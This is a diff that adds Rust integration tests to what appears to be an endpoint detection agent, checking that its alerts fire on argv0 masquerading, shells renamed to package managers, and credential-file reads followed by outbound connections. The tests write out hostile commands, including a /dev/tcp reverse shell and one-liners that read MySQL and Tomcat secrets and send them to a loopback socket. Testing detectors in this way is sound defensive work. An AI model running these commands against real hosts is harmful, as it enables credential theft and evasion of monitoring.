@@ -132,6 +132,93 @@ fn rewritemap_helper_subshell_runs_id() {
     agent.stop();
 }
 
+/// The helpers' baseline is the program, not its argv: a helper that runs the genuine
+/// `date +%s` stays quiet; one that runs a dropped binary as `exec -a date PAYLOAD +%s`
+/// (argv identical to the baseline) raises EPMM-B1.
+#[test]
+fn a_forged_argv0_does_not_pass_for_the_helpers_baseline() {
+    let mut agent = Agent::start(&[]);
+    let dir = Scratch::new("argv0");
+    std::fs::create_dir_all(dir.path("mi/bin")).unwrap();
+    let httpd = dir.path("httpd");
+    std::fs::copy("/bin/bash", &httpd).unwrap();
+    let payload = dir.path("payload");
+    std::fs::copy("/bin/true", &payload).unwrap();
+    std::fs::set_permissions(&payload, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let helper = dir.path("mi/bin/map-appstore-url");
+    std::fs::write(
+        &helper,
+        "#!/bin/bash\nread -r line\ndate +%s >/dev/null\n(exec -a date \"$PAYLOAD\" +%s)\necho served\n",
+    )
+    .unwrap();
+    std::fs::set_permissions(&helper, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let out = Command::new(&httpd)
+        .args(["-c", "echo request | \"$HELPER\""])
+        .env("HELPER", &helper)
+        .env("PAYLOAD", &payload)
+        .output()
+        .unwrap();
+    assert!(String::from_utf8_lossy(&out.stdout).contains("served"));
+
+    let exe = payload.to_str().unwrap().to_owned();
+    let line = agent.wait_for("EPMM-B1 on the forged date", |l| {
+        alert_of(l, "EPMM-B1").is_some_and(|a| a["process"]["exe"] == exe.as_str())
+    });
+    assert_eq!(
+        line["alert"]["process"]["argv"],
+        serde_json::json!(["date", "+%s"]),
+        "argv is the baseline's, word for word"
+    );
+    let genuine = agent.collect(Duration::from_millis(200), |l| {
+        alert_of(l, "EPMM-B1").is_some_and(|a| {
+            a["process"]["exe"]
+                .as_str()
+                .unwrap_or("")
+                .ends_with("/date")
+                && a["lineage"]["sourceArgv"].to_string().contains(dir.str())
+        })
+    });
+    assert!(
+        genuine.is_empty(),
+        "the real date +%s is baseline: {genuine:?}"
+    );
+    agent.stop();
+}
+
+/// An exemption cannot be borrowed by a name: a shell copied to `rpm` and `dnf` (names of
+/// package managers, which may run programs from temporary directories) runs a payload
+/// from a writable directory; EPMM-B17 still fires under each wrapper.
+#[test]
+fn a_package_manager_name_exempts_nothing() {
+    let mut agent = Agent::start(&[]);
+    let dir = Scratch::new("wrapper");
+    let payload = dir.path("payload");
+    std::fs::copy("/bin/true", &payload).unwrap();
+    std::fs::set_permissions(&payload, std::fs::Permissions::from_mode(0o755)).unwrap();
+    for name in ["rpm", "dnf"] {
+        let wrapper = dir.path(name);
+        std::fs::copy("/bin/bash", &wrapper).unwrap();
+        std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).unwrap();
+        let status = Command::new(&wrapper)
+            // `; true`: bash forks for the payload instead of exec-ing over itself.
+            .args(["-c", &format!("{} --{name}; true", payload.display())])
+            .status()
+            .unwrap();
+        assert!(status.success());
+        let wrapper = wrapper.to_str().unwrap().to_owned();
+        let line = agent.wait_for(&format!("EPMM-B17 under {name}"), |l| {
+            alert_of(l, "EPMM-B17").is_some_and(|a| {
+                a["process"]["argv"]
+                    .to_string()
+                    .contains(&format!("--{name}"))
+                    && a["ancestry"][0]["exe"] == wrapper.as_str()
+            })
+        });
+        assert_eq!(line["alert"]["techniques"][0], "T1036.005");
+    }
+    agent.stop();
+}
+
 /// `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1`.
 #[test]
 fn bash_reverse_shell_to_a_loopback_listener() {
@@ -228,6 +315,54 @@ fn a_delayed_java_native_reverse_shell_is_linked_by_its_socket() {
         alert_of(l, "EPMM-B8").is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(jvm.id()))
     });
     assert!(b8.is_empty(), "6 s is past EPMM-B8's window");
+    agent.stop();
+}
+
+/// Secrets, then a connection out: a shell that cats the MySQL credentials and then
+/// opens a socket, and a python one-liner that reads the Tomcat properties and sends
+/// them, each from the web tier (one JVM each), raise EPMM-B11-EXFIL (T1552.001).
+#[test]
+fn secrets_read_then_sent_out_from_the_web_tier() {
+    let mut agent = Agent::start(&[]);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let python = format!(
+        "import socket\ntry:\n    data = open('/mi/tomcat-properties/mi.properties').read()\nexcept OSError:\n    data = ''\ns = socket.create_connection(('127.0.0.1', {port}))\ns.sendall(data.encode() + b'x')\ns.close()\n"
+    );
+    let shell = format!(
+        "cat /mi/files/system/.mifpp 2>/dev/null; exec 3<>/dev/tcp/127.0.0.1/{port}; echo x >&3"
+    );
+    // bash for /dev/tcp (dash has none).
+    let steps = [
+        ("cat", vec!["exec", "/bin/bash", "-c", shell.as_str()]),
+        ("python3", vec!["exec", "python3", "-c", python.as_str()]),
+    ];
+    for (what, args) in steps {
+        let mut jvm = tomcat_reenact(&args)
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        let (mut conn, _) = listener.accept().unwrap();
+        conn.set_read_timeout(Some(Duration::from_secs(20)))
+            .unwrap();
+        let mut got = [0u8; 1];
+        let _ = conn.read(&mut got);
+        drop(conn);
+        let _ = jvm.wait();
+        let line = agent.wait_for(&format!("EPMM-B11-EXFIL after {what}"), |l| {
+            alert_of(l, "EPMM-B11-EXFIL")
+                .is_some_and(|a| a["lineage"]["sourcePid"] == serde_json::json!(jvm.id()))
+        });
+        let alert = &line["alert"];
+        assert_eq!(alert["techniques"][0], "T1552.001");
+        let evidence = alert["evidence"].as_array().unwrap();
+        assert_eq!(evidence.len(), 2, "{what}: the read and the connect");
+        assert_eq!(
+            num(&evidence[1]["connect"]["socket"]["remotePort"]),
+            u64::from(port)
+        );
+    }
     agent.stop();
 }
 
